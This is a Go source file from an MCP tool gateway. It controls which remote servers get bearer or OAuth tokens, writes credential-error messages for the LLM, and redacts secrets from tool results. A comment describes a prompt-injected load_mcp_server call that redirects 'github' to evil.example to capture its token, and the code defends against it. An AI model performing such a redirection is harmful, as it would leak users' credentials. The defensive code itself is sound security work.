package gateway

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/toolgate/toolgate/extension"
	"github.com/toolgate/toolgate/internal/config"
	"github.com/toolgate/toolgate/internal/secrets"
	"github.com/toolgate/toolgate/internal/upstream"
)

// token decides whether a remote server gets a bearer token and reads it.
//
// The rule: the tokens file entry for name N is sent only to the URL the
// config declares for N. A server connected at run time by load_mcp_server
// gets one only if the config declares the same name with the same URL
// (e.g. a "disabled" entry). So a prompt-injected
// load_mcp_server("github", "https://evil.example/mcp") gets nothing: the
// URL is not github's configured one (and the configured github, if
// running, already holds the name).
func (g *Gateway) token(cfg *config.Server) (string, bool, error) {
	if !g.mayHaveToken(cfg) {
		return "", false, nil
	}
	if tok, ok, err := g.oauthToken(cfg); ok || err != nil {
		return tok, ok, err
	}
	if g.tokens == nil {
		return "", false, nil
	}
	t, ok, err := g.tokens.Get(cfg.Name)
	if err != nil {
		return "", false, err
	}
	return t.Value, ok, nil
}

// mayHaveToken applies the rule above: only a configured remote server,
// at its configured URL, gets a credential.
func (g *Gateway) mayHaveToken(cfg *config.Server) bool {
	conf, ok := g.cfg.Servers[cfg.Name]
	return ok && conf.IsRemote() && sameURL(conf.URL, cfg.URL)
}

// oauthToken is the access token of a "toolgate auth login" for cfg,
// which takes the place of the tokens file's shared entry.
func (g *Gateway) oauthToken(cfg *config.Server) (string, bool, error) {
	if g.oauth == nil || !g.oauth.Has(cfg.Name) {
		return "", false, nil
	}
	return g.oauth.Token(g.ctx, cfg.Name, g.cfg.Servers[cfg.Name].URL)
}

// forPrincipal returns the connection to srv that ctx's principal uses.
// A server with per-principal entries in the tokens file
// ("github@alice=...", "github@group:dev=...") gives each principal a
// connection of its own carrying its own token (or the shared one when it
// has none of its own, or no token at all): a principal never travels on
// another's credential or upstream session. Every other server, and a
// request with no principal (stdio, an HTTP frontend without auth), uses
// the shared connection.
func (g *Gateway) forPrincipal(ctx context.Context, srv *upstream.Server) (*upstream.Server, error) {
	p := extension.PrincipalFrom(ctx)
	cfg := srv.Config()
	if p == nil || srv.PerPrincipal() || g.tokens == nil || !g.mayHaveToken(cfg) {
		return srv, nil
	}
	scoped, err := g.tokens.Scoped(cfg.Name)
	if err != nil || !scoped {
		// A read error is the shared connection's to report: it reads the
		// same file on its next request.
		return srv, nil
	}
	subject, groups := p.Subject, p.Groups
	if _, _, _, err := g.tokens.For(cfg.Name, subject, groups); errors.Is(err, secrets.ErrAmbiguous) {
		// Said to the caller rather than failing every request of its
		// connection with "could not read the credentials".
		g.log.Warn("per-principal credentials are ambiguous", "error", err)
		return nil, fmt.Errorf("you (%q) are in several groups with different tokens for server %q, so toolgate sent none; ask the operator to add a %q entry for you to toolgate's tokens file", subject, cfg.Name, cfg.Name+secrets.PrincipalSep+subject)
	}
	return srv.Scoped(p.ID(), func() (string, bool, error) {
		if !g.mayHaveToken(cfg) {
			return "", false, nil
		}
		t, entry, ok, err := g.tokens.For(cfg.Name, subject, groups)
		if err == nil && (!ok || entry == cfg.Name) {
			// No entry of its own: the shared credential, which a login
			// replaces.
			if tok, ok, err := g.oauthToken(cfg); ok || err != nil {
				return tok, ok, err
			}
		}
		return t.Value, ok, err
	})
}

// sameURL compares two URLs after normalising scheme and host case and a
// trailing slash.
func sameURL(a, b string) bool {
	ua, err1 := url.Parse(a)
	ub, err2 := url.Parse(b)
	if err1 != nil || err2 != nil {
		return false
	}
	norm := func(u *url.URL) string {
		return strings.ToLower(u.Scheme) + "://" + strings.ToLower(u.Host) + strings.TrimSuffix(u.EscapedPath(), "/") + "?" + u.RawQuery
	}
	return ua.User == nil && ub.User == nil && norm(ua) == norm(ub)
}

// authFailure recognises an upstream's refusal of its credentials.
func authFailure(err error) bool {
	if err == nil {
		return false
	}
	m := strings.ToLower(err.Error())
	for _, s := range []string{"401", "403", "unauthorized", "unauthorised", "forbidden"} {
		if strings.Contains(m, s) {
			return true
		}
	}
	return false
}

// authMessage tells the LLM what to do about a rejected credential. It does
// not name the tokens file's path: an agent with file tools should not be
// pointed at it.
func (g *Gateway) authMessage(ctx context.Context, server string) string {
	entry := server
	if p := extension.PrincipalFrom(ctx); p != nil && g.tokens != nil {
		if scoped, _ := g.tokens.Scoped(server); scoped {
			_, e, ok, err := g.tokens.For(server, p.Subject, p.Groups)
			switch {
			case errors.Is(err, secrets.ErrAmbiguous):
				return fmt.Sprintf("server %q was not sent credentials: you (%q) are in several groups with different tokens for it. Ask the operator to add a %q entry for you to toolgate's tokens file. Never ask the user to paste a token into this conversation.", server, p.Subject, server+secrets.PrincipalSep+p.Subject)
			case err == nil && !ok && !(g.oauth != nil && g.oauth.Has(server)):
				return fmt.Sprintf("server %q refused the call (unauthorized or forbidden): it needs credentials, and toolgate holds none for you (%q). Ask the operator to add a %q entry for you to toolgate's tokens file, then retry. Never ask the user to paste a token into this conversation.", server, p.Subject, server+secrets.PrincipalSep+p.Subject)
			case err == nil:
				entry = e
			}
		}
	}
	// A login replaces the shared entry, not a principal's own.
	if entry == server && g.oauth != nil && g.oauth.Has(server) {
		return fmt.Sprintf("server %q rejected toolgate's OAuth login (unauthorized or forbidden): it has expired or been revoked. Ask the user to run \"toolgate auth login %s\", then retry. Never ask the user to paste a token into this conversation.", server, server)
	}
	age := "unknown"
	if g.tokens != nil {
		if d := g.tokens.Age(entry); d > 0 {
			age = humanDuration(d)
		}
	}
	return fmt.Sprintf("server %q rejected its credentials (unauthorized or forbidden). Its token in toolgate's tokens file has been unchanged for %s and has probably expired or been revoked. Ask the user to update the %q entry in the tokens file, then retry. Never ask the user to paste a token into this conversation.", server, age, entry)
}

func humanDuration(d time.Duration) string {
	switch {
	case d < time.Minute:
		return "less than a minute"
	case d < time.Hour:
		return fmt.Sprintf("%d minutes", int(d.Minutes()))
	case d < 48*time.Hour:
		return fmt.Sprintf("%.1f hours", d.Hours())
	default:
		return fmt.Sprintf("%d days", int(d.Hours()/24))
	}
}

// redactResult masks every known secret in what goes back to the client.
func (g *Gateway) redactResult(res *mcp.CallToolResult) *mcp.CallToolResult {
	if g.redact.Empty() || res == nil {
		return res
	}
	for _, c := range res.Content {
		switch c := c.(type) {
		case *mcp.TextContent:
			c.Text = g.redact.String(c.Text)
		case *mcp.EmbeddedResource:
			if c.Resource != nil {
				c.Resource.Text = g.redact.String(c.Resource.Text)
			}
		case *mcp.ResourceLink:
			c.Description = g.redact.String(c.Description)
		}
	}
	switch sc := res.StructuredContent.(type) {
	case SearchOutput:
		for i := range sc.Tools {
			sc.Tools[i].Description = g.redact.String(sc.Tools[i].Description)
			sc.Tools[i].InputSchema = g.redact.Value(sc.Tools[i].InputSchema)
		}
	case nil:
	default:
		res.StructuredContent = g.redact.Value(sc)
	}
	// Whatever else a result carries (_meta of the result or of a content
	// block, resource link URIs and names, ...): check the encoded result,
	// and re-read it masked if a secret is still in it.
	b, err := json.Marshal(res)
	if err != nil {
		return errorResult("the result could not be checked for secrets, so it was withheld")
	}
	if masked := g.redact.String(string(b)); masked != string(b) {
		var out mcp.CallToolResult
		if err := json.Unmarshal([]byte(masked), &out); err != nil {
			return errorResult("the result contained a secret and could not be masked, so it was withheld")
		}
		return &out
	}
	return res
}
